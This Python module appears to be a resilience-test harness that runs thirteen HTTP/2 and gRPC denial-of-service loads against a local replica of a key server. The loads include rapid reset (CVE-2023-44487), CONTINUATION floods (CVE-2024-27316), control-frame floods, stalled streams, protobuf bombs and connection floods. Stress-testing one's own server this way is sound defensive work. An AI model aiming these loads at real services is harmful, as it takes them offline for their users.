"""Loads that no honest caller makes, each for some seconds, from an address of its own on loopback.

`python -m hostile.loads TARGET LOAD SECONDS` runs one and prints what it managed as JSON; TARGET is a JSON
file of a `Target`. A load whose connections are cut comes back, as an attacker would.
"""

from __future__ import annotations

import json
import os
import random
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Mapping
from dataclasses import asdict, dataclass
from pathlib import Path

from e2eks.v1 import client_pb2, verification_pb2

from hostile import http2
from hostile.http2 import Connection, frame

LOOKUP = "/e2eks.v1.Keyserver/Lookup"
UPDATE = "/e2eks.v1.Keyserver/Update"
STREAM = "/e2eks.v1.Verification/VerifierStream"
WATCH = "/grpc.health.v1.Health/Watch"
SOURCE = "127.0.0.2"  # Linux answers on all of 127/8: the honest caller has another address
NICE = 19  # attackers have machines of their own
ENDLESS = verification_pb2.VerifierStreamRequest(start=1).SerializeToString()
SHUT = {http2.INITIAL_WINDOW_SIZE: 0}  # "send me nothing"
CONNECTIONS = 8
CALLS = 200  # on each connection
IN_FLIGHT = 4  # of each connection, where answers are awaited
FRAMES = 100  # sent at once
RESETS = 10  # calls made and cancelled at once: 500 a second, ten times what is borne
PAUSE_S = 0.02  # between two bursts
ROOM = 16 * 1024 - 1024  # in one frame
BOMB_BYTES = 4 * 1024 * 1024
NEARLY_BYTES = 255 * 1024


@dataclass(frozen=True, slots=True)
class Target:
    """A replica: ports, TLS roots (PEM), a registered name and the domain of others, an encoded update."""

    public: int
    verification: int
    roots: str
    name: str
    domain: str
    source: str = SOURCE

    def connect(self, port: int = 0, wanted: Mapping[int, int] | None = None, buffer: int = 0) -> Connection:
        return Connection(
            port or self.public, self.roots, wanted=wanted, source=self.source, receive_buffer=buffer
        )

    def write(self, file: Path) -> None:
        file.write_text(json.dumps(asdict(self)))


class Load:
    """One load under way. `done` counts what it managed."""

    def __init__(self, target: Target, seconds: float, seed: int, lasting: Callable[[], bool]) -> None:
        self.target = target
        self.done: Counter[str] = Counter()
        self.dice = random.Random(seed)
        self._until = time.monotonic() + seconds
        self._lasting = lasting
        self._never = threading.Event()

    @property
    def goes_on(self) -> bool:
        return time.monotonic() < self._until or self._lasting()

    def pause(self, seconds: float) -> None:
        """Keep the pace of the load."""
        self._never.wait(seconds)

    def hold(self, opened: list[Connection]) -> None:
        """Do nothing with what is open, until the end."""
        self.done["opened"] += len(opened)
        self.pause(max(0.0, self._until - time.monotonic()))
        while self.goes_on:
            self.pause(PAUSE_S)
        for connection in opened:
            connection.close()

    def lookup(self, name: str = "") -> bytes:
        return client_pb2.LookupRequest(user_id=name or self.target.name).SerializeToString()

    def again_and_again(self, send: Callable[[Connection], None], port: int = 0) -> None:
        """Connect, send until the connection is cut, connect again."""
        while self.goes_on:
            try:
                with self.target.connect(port) as connection:
                    self.done["connections"] += 1
                    while self.goes_on:
                        send(connection)
                        self.done["sent"] += 1
                        if connection.swallow():
                            self.done["cut"] += 1
                            break
                        self.pause(PAUSE_S)
            except OSError:
                self.done["cut"] += 1

    def filled(
        self, port: int, start: Callable[[Connection], object], wanted: Mapping[int, int] | None
    ) -> None:
        """Many connections with many calls each, which are then left alone."""
        opened: list[Connection] = []
        for _ in range(CONNECTIONS):
            try:
                connection = self.target.connect(port, wanted, buffer=4096)
                opened.append(connection)
                for _ in range(CALLS):
                    start(connection)
                    self.done["calls"] += 1
            except OSError:
                self.done["cut"] += 1
        self.hold(opened)


def idle_streams(load: Load) -> None:
    """Streams that follow the verifier log for ever."""
    load.filled(load.target.verification, lambda c: c.start(STREAM, ENDLESS), None)


def unread_streams(load: Load) -> None:
    """Streams that ask for the whole verifier log and take nothing of it."""
    load.filled(load.target.verification, lambda c: c.start(STREAM, ENDLESS), SHUT)


def unread_answers(load: Load) -> None:
    """Lookups whose answers are never taken."""
    load.filled(0, lambda c: c.start(LOOKUP, load.lookup()), SHUT)


def half_open_calls(load: Load) -> None:
    """Calls of which only the headers ever come."""

    def start(connection: Connection) -> None:
        headers = http2.call_headers(UPDATE)
        connection.send(frame(http2.HEADERS, http2.END_HEADERS, connection.next_stream(), headers))

    load.filled(0, start, None)


def half_sent_requests(load: Load) -> None:
    """Calls whose request of 255 KiB lacks its end."""
    data = http2.message(bytes(ROOM), NEARLY_BYTES)

    def start(connection: Connection) -> None:
        stream = connection.next_stream()
        headers = frame(http2.HEADERS, http2.END_HEADERS, stream, http2.call_headers(UPDATE))
        connection.send(headers + frame(http2.DATA, 0, stream, data))

    load.filled(0, start, None)


def rapid_reset(load: Load) -> None:
    """Calls that are cancelled as soon as they are made (CVE-2023-44487)."""

    def send(connection: Connection) -> None:
        burst = b""
        for _ in range(RESETS):
            stream = connection.next_stream()
            burst += http2.call(stream, LOOKUP, load.lookup()) + http2.reset(stream)
        connection.send(burst)

    load.again_and_again(send)


def continuation_flood(load: Load) -> None:
    """Headers without end (CVE-2024-27316)."""
    more = frame(http2.CONTINUATION, 0, 1, http2.literal(b"x", bytes(ROOM)))

    def send(connection: Connection) -> None:
        if connection.is_new:
            headers = http2.call_headers(LOOKUP)
            connection.send(frame(http2.HEADERS, 0, connection.next_stream(), headers))
        connection.send(more * 10)

    load.again_and_again(send)


def control_flood(load: Load) -> None:
    """PING and SETTINGS, each of which wants an answer."""
    burst = (frame(http2.PING, payload=bytes(8)) + http2.settings({3: 100})) * FRAMES
    load.again_and_again(lambda connection: connection.send(burst))


def oversize_metadata(load: Load) -> None:
    """Calls with 15 KiB of headers each."""
    extra = ((b"x-large", b"a" * ROOM),)

    def send(connection: Connection) -> None:
        stream, headers = connection.next_stream(), http2.call_headers(LOOKUP, extra)
        connection.send(frame(http2.HEADERS, http2.END_HEADERS, stream, headers))

    load.again_and_again(send)


def protobuf_bombs(load: Load) -> None:
    """Requests that are nothing but empty submessages: 255 KiB of them, and announced 4 MiB."""
    bomb = b"\x1a\x00" * (NEARLY_BYTES // 2)

    def send(connection: Connection) -> None:
        stream = connection.next_stream()
        connection.send(frame(http2.HEADERS, http2.END_HEADERS, stream, http2.call_headers(UPDATE)))
        announced = BOMB_BYTES if stream % 4 == 1 else len(bomb)
        connection.send_data(stream, http2.message(bomb, announced))

    load.again_and_again(send)


def unknown_names(load: Load) -> None:
    """Lookups of names nobody has, each of which costs a VRF proof: as many as are answered."""
    opened = [load.target.connect() for _ in range(CONNECTIONS)]
    for connection in opened:
        connection.take_everything()
    while load.goes_on:
        for connection in opened:
            for _ in range(IN_FLIGHT):
                name = f"nobody-{load.dice.getrandbits(64)}@{load.target.domain}"
                connection.start(LOOKUP, load.lookup(name))
        for connection in opened:
            load.done["answered"] += connection.wait_for_all()
    for connection in opened:
        connection.close()


def connection_flood(load: Load) -> None:
    """Connections over which nothing is asked."""
    opened: list[Connection] = []
    for _ in range(CONNECTIONS * CALLS):
        try:
            opened.append(load.target.connect())
        except OSError:
            load.done["cut"] += 1
        if not load.goes_on:
            break
    load.hold(opened)


def watchers(load: Load) -> None:
    """Callers that watch the health for ever."""
    load.filled(0, lambda c: c.start(WATCH, b""), None)


LOADS: Mapping[str, Callable[[Load], None]] = {
    "idle-streams": idle_streams,
    "unread-streams": unread_streams,
    "unread-answers": unread_answers,
    "half-open-calls": half_open_calls,
    "half-sent-requests": half_sent_requests,
    "rapid-reset": rapid_reset,
    "continuation-flood": continuation_flood,
    "control-flood": control_flood,
    "oversize-metadata": oversize_metadata,
    "protobuf-bombs": protobuf_bombs,
    "unknown-names": unknown_names,
    "connection-flood": connection_flood,
    "watchers": watchers,
}


def run(
    target: Target, name: str, seconds: float, seed: int = 1, lasting: Callable[[], bool] = lambda: False
) -> dict[str, int]:
    """One load in this process, for so many seconds and then as long as `lasting` says; what it managed."""
    load = Load(target, seconds, seed, lasting)
    LOADS[name](load)
    return dict(load.done)


def main(arguments: list[str]) -> None:
    """Run one load as a process of its own."""
    file, name, seconds = arguments
    os.nice(NICE)
    print(json.dumps(run(Target(**json.loads(Path(file).read_text())), name, float(seconds))))


if __name__ == "__main__":
    main(sys.argv[1:])
